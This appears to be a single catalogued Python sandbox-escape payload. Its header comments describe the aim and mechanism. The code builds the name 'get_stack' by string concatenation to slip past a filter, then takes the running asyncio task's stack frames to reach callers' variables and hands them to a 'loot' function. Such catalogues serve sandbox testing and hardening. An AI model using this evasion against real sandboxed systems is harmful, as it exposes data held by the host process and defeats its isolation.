# aim: ask the running task for its frames by a computed name
# mechanism: getattr of get_stack
# language: builtins
# reason: a frame leads to the variables of every caller
# jail: process
# plain: loot

import asyncio


async def main():
    loot(getattr(asyncio.current_task(), "get_" + "stack")())


asyncio.run(main())
